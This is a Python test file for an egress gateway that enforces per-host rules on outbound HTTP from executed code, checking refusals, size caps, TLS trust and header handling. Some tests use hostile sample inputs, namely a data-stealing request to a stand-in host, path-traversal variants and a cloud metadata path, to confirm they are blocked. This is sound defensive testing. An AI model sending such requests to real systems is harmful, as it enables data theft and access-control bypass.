"""What the code sees through the gateway, with the clients that code really uses."""

from __future__ import annotations

import json
import socket
import ssl
import urllib.request

import httpx
import pytest
import requests

from services.executor.egress.model import Caps, EgressRun, PracticeSetting
from shared.agentfile.model import HostRule
from shared.errors import Conflict
from tests.unit.executor.egress.conftest import API, FORGED, OTHER, PLAIN, World


def test_requests_reaches_an_allowed_https_host(world: World) -> None:
    run = world.open()

    with run.session() as session:
        answer = session.get(world.url("/items?page=2"))
    run.close()

    assert (answer.status_code, answer.text) == (200, "ok /items?page=2")
    [record] = run.records
    assert (record.verdict, record.method, record.url) == ("sent", "GET", world.url("/items?page=2"))
    assert record.bytes_out > 0
    assert record.bytes_in > len(answer.content)
    assert not record.wrote


def test_httpx_reaches_an_allowed_https_host(world: World) -> None:
    run = world.open()

    with httpx.Client(proxy=run.proxy, verify=run.tls(), trust_env=False) as client:
        texts = [client.get(world.url(f"/{number}")).text for number in range(3)]

    assert texts == ["ok /0", "ok /1", "ok /2"]


def test_urllib_reaches_an_allowed_https_host(world: World) -> None:
    run = world.open()
    proxy = urllib.request.ProxyHandler({"http": run.proxy, "https": run.proxy})
    opener = urllib.request.build_opener(proxy, urllib.request.HTTPSHandler(context=run.tls()))

    with opener.open(world.url("/u"), timeout=20) as answer:
        assert answer.read() == b"ok /u"


def test_plain_http_passes_only_when_a_rule_says_http(world: World) -> None:
    run = world.open(world.rule(PLAIN))
    https_only = world.open(HostRule(host=PLAIN, port=world.plain.port))

    with run.session() as session, https_only.session() as refused:
        assert session.get(world.url("/x", PLAIN)).text == "ok /x"
        answer = refused.get(world.url("/x", PLAIN))

    assert (answer.status_code, answer.json()["code"]) == (403, "undeclared_scheme")


def test_connections_are_reused_on_both_sides(world: World) -> None:
    run = world.open()

    with run.session() as session:
        before = len(world.api.seen.requests)
        for number in range(4):
            session.get(world.url(f"/{number}"))

    used = {request.connection for request in world.api.seen.requests[before:]}
    assert len(used) == 1


def test_a_get_is_repeated_when_the_kept_connection_was_closed(world: World) -> None:
    run = world.open()

    with run.session() as session:
        assert session.get(world.url("/last")).text == "last"
        assert session.get(world.url("/after")).text == "ok /after"


def test_an_undeclared_host_is_refused_before_any_lookup(world: World) -> None:
    run = world.open()
    world.lookups.clear()

    with run.session() as session:
        inside = session.get("https://evil.example/steal?data=1")
        plain = session.get("http://evil.example/steal?data=1")
    report = run.close()

    assert world.lookups == []
    for answer in (inside, plain):
        assert (answer.status_code, answer.json()["code"], answer.json()["host"]) == (
            403,
            "undeclared_host",
            "evil.example",
        )
    tunnelled, direct = run.records
    assert tunnelled.undeclared
    assert (tunnelled.verdict, tunnelled.url, tunnelled.method) == (
        "refused",
        "https://evil.example/steal?data=1",
        "GET",
    )
    assert (tunnelled.bytes_out, direct.bytes_out) == (0, 0)
    assert (direct.reason, direct.method, direct.path) == ("undeclared_host", "GET", "/steal?data=1")
    assert [(usage.host, usage.refused, usage.requests) for usage in report.hosts] == [("evil.example", 2, 0)]


@pytest.mark.parametrize(
    ("method", "path", "code"),
    [
        ("POST", "/new", "undeclared_method"),
        ("DELETE", "/new", "undeclared_method"),
        ("GET", "/newer", "undeclared_path"),
        ("GET", "/", "undeclared_path"),
        ("GET", "/new/%2e%2e/admin", "ambiguous_path"),
        ("GET", "/new/..%2fadmin", "ambiguous_path"),
        ("GET", "/new/..;/admin", "ambiguous_path"),
    ],
)
def test_a_request_outside_its_rule_never_reaches_the_host(
    world: World, method: str, path: str, code: str
) -> None:
    run = world.open(world.rule(path="/new"))
    before = len(world.api.seen.requests)
    world.lookups.clear()

    with httpx.Client(proxy=run.proxy, verify=run.tls(), trust_env=False) as client:
        # raw_path goes out as it is; clients would tidy the path up.
        url = httpx.URL(world.url()).copy_with(raw_path=path.encode())
        answer = client.request(method, url)
        inside = client.get(world.url("/new/1"))

    assert answer.json()["code"] == code
    assert inside.status_code == 200
    assert [request.target for request in world.api.seen.requests[before:]] == ["/new/1"]


def test_another_port_of_a_declared_host_is_refused(world: World) -> None:
    run = world.open()

    before = len(world.other.seen.requests)
    with run.session() as session:
        answer = session.get(f"https://{API}:{world.other.port}/")
    assert (answer.status_code, answer.json()["code"]) == (403, "undeclared_port")
    assert len(world.other.seen.requests) == before


def test_a_declared_host_at_a_metadata_address_is_refused(world: World) -> None:
    run = world.open(HostRule(host="meta.shop.test"))

    with run.session() as session:
        answer = session.get("https://meta.shop.test/computeMetadata/v1/")
    run.close()

    assert (answer.status_code, answer.json()["code"]) == (403, "address_refused")
    assert (run.records[0].verdict, run.records[0].bytes_out) == ("refused", 0)
    assert not run.records[0].undeclared


def test_an_unknown_name_is_a_bad_gateway(world: World) -> None:
    run = world.open(HostRule(host="gone.shop.test"))

    with run.session() as session:
        answer = session.get("https://gone.shop.test/")
    run.close()

    assert (answer.status_code, answer.json()["code"]) == (502, "no_such_host")
    assert (run.records[0].verdict, run.records[0].reason) == ("failed", "no_such_host")


def test_an_untrusted_certificate_is_a_bad_gateway(world: World) -> None:
    run = world.open(world.rule(FORGED))

    with run.session() as session:
        answer = session.get(world.url("/", FORGED))

    assert (answer.status_code, answer.json()["code"]) == (502, "bad_certificate")
    assert world.forged.seen.requests == []


def test_a_server_that_hangs_up_is_a_bad_gateway(world: World) -> None:
    run = world.open()

    with run.session() as session:
        answer = session.get(world.url("/hangup"))

    assert (answer.status_code, answer.json()["code"]) == (502, "no_answer")


def test_a_cut_answer_is_not_passed_on_as_complete(world: World) -> None:
    run = world.open()

    with run.session() as session, pytest.raises(requests.exceptions.RequestException):
        session.get(world.url("/cut"))
    run.close()

    assert (run.records[0].verdict, run.records[0].reason) == ("failed", "no_answer")


def test_an_answer_over_the_cap_is_cut(world: World) -> None:
    run = world.open(caps=Caps(answer_bytes=100_000))

    with run.session() as session, pytest.raises(requests.exceptions.RequestException):
        session.get(world.url("/big"))
    run.close()

    assert run.records[0].reason == "answer_too_large"


def test_a_request_body_over_the_cap_is_413(world: World) -> None:
    run = world.open(world.rule(effect="write"), caps=Caps(request_bytes=10_000))

    with run.session() as session:
        answer = session.post(world.url("/x"), data=b"y" * 20_000)

    assert (answer.status_code, answer.json()["code"]) == (413, "request_too_large")


def test_a_run_over_its_request_cap_sees_429(world: World) -> None:
    run = world.open(caps=Caps(run_requests=2))

    with run.session() as session:
        statuses = [session.get(world.url()).status_code for _ in range(3)]

    assert statuses == [200, 200, 429]


def test_bodies_of_either_framing_arrive_whole(world: World) -> None:
    run = world.open(world.rule(effect="write"))
    parts = [b"first,", b"", b"second" * 30_000]

    with run.session() as session:
        chunked = session.post(world.url("/echo"), data=iter(parts))
        counted = session.post(world.url("/echo"), data=b"".join(parts), headers={"Expect": "100-continue"})

    assert chunked.json()["body"] == b"".join(parts).decode()
    assert counted.json()["body"] == b"".join(parts).decode()
    assert chunked.json()["headers"]["transfer-encoding"] == "chunked"
    assert "expect" not in counted.json()["headers"]


def test_redirects_are_judged_when_the_code_follows_them(world: World) -> None:
    run = world.open()

    with run.session() as session:
        answer = session.get(world.url("/away"))

    assert (answer.status_code, answer.json()["code"]) == (403, "not_a_name")


def test_hop_by_hop_headers_stay_behind(world: World) -> None:
    run = world.open()
    headers = {"Connection": "x-private", "X-Private": "1", "Proxy-Authorization": "Basic abc", "X-Kept": "2"}

    with run.session() as session:
        seen = session.get(world.url("/echo"), headers=headers).json()["headers"]

    assert seen["x-kept"] == "2"
    assert seen["host"] == f"{API}:{world.api.port}"
    assert not {"x-private", "proxy-authorization", "connection"} & set(seen)


def test_head_answers_keep_their_length(world: World) -> None:
    run = world.open()

    with run.session() as session:
        answer = session.head(world.url("/big"))

    assert (answer.status_code, answer.headers["content-length"]) == (200, "300000")


def test_a_websocket_is_not_opened(world: World) -> None:
    run = world.open()

    with run.session() as session:
        answer = session.get(world.url(), headers={"Connection": "upgrade", "Upgrade": "websocket"})

    assert (answer.status_code, answer.json()["code"]) == (501, "upgrade_unsupported")


def test_a_failing_recorder_harms_nobody_and_is_counted(world: World) -> None:
    def record(_: object) -> None:
        raise RuntimeError("the recorder is full")

    listener = socket.create_server(("127.0.0.1", 0))
    port = listener.getsockname()[1]
    world.gateway.open(EgressRun("failing", (world.rule(),), record), listener)
    with requests.Session() as session:
        session.trust_env = False
        session.proxies = {"http": f"http://127.0.0.1:{port}"}
        assert session.get("http://evil.example/").status_code == 403

    assert world.gateway.close("failing").lost_records == 1


def test_a_run_is_opened_once_and_closed_as_often_as_wanted(world: World) -> None:
    run = world.open()
    with socket.create_server(("127.0.0.1", 0)) as listener, pytest.raises(Conflict):
        world.gateway.open(EgressRun(run.id, (), run.records.append), listener)

    run.close()

    assert run.close().hosts == ()
    with pytest.raises(OSError, match="refused"):
        run.raw()


def test_two_runs_do_not_trust_or_see_each_other(world: World) -> None:
    one, two = world.open(), world.open(world.rule(OTHER))

    with one.session() as session:
        session.verify = two.ca_path
        with pytest.raises(requests.exceptions.SSLError):
            session.get(world.url())
    with two.session() as session:
        assert session.get(world.url()).json()["code"] == "undeclared_host"
    one.close()

    assert [record.reason for record in one.records] == ["tls_failed"]


def test_the_practice_host_needs_a_rule_like_any_other(world: World) -> None:
    practice = HostRule(host="practice.agentbuilder.test")
    run, without = world.open(practice, practice=PracticeSetting(day=2)), world.open()
    world.lookups.clear()

    with run.session() as session:
        answer = session.get("https://practice.agentbuilder.test/shop-a/new")
    with without.session() as session:
        refused = session.get("https://practice.agentbuilder.test/shop-a/new")
    run.close()

    assert refused.json()["code"] == "undeclared_host"

    assert "겨울 한정 머그 눈꽃" in answer.text
    assert (run.records[0].verdict, run.records[0].bytes_out) == ("practice", 0)
    assert world.lookups == []


def test_the_authority_can_only_sign_hosts(world: World) -> None:
    run = world.open()

    context = ssl.create_default_context(cadata=run.ca)
    context.verify_flags |= ssl.VERIFY_X509_STRICT
    with httpx.Client(proxy=run.proxy, verify=context, trust_env=False) as client:
        answer = client.get(world.url("/echo"))

    assert json.loads(answer.text)["headers"]["host"] == f"{API}:{world.api.port}"
    assert OTHER not in answer.text
